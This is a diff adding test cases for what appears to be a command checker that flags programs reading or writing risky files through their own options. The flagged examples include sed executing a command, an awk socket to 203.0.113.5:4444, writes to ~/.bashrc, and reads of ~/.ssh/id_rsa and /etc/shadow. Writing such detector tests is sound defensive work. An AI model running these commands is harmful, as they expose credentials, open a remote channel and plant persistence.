@@ -1,0 +1,21 @@
+# Cases for checks/files.ts: files programs read or write through their own options. The paths
+# they record are judged by the path checks of index.ts (paths.*), so the cases show those ids.
+
+# flag: files.sed-exec
+sed 's/x/id/e' notes.txt
+# ok: an ordinary substitution
+sed -i 's/foo/bar/g' src/a.ts
+# flag: files.awk-socket
+awk 'BEGIN { s = "/inet/tcp/0/203.0.113.5/4444"; print "x" |& s }'
+# ok: awk printing a column
+awk '{print $1}' data.txt
+# flag: paths.write-persistence
+find . -fprint ~/.bashrc
+# flag: paths.read-credential
+xargs -a ~/.ssh/id_rsa echo
+# flag: paths.write-outside
+strace -o /srv/trace.log ls
+# flag: paths.read-outside
+wc --files0-from=/srv/list
+# flag: paths.read-credential
+date -f /etc/shadow
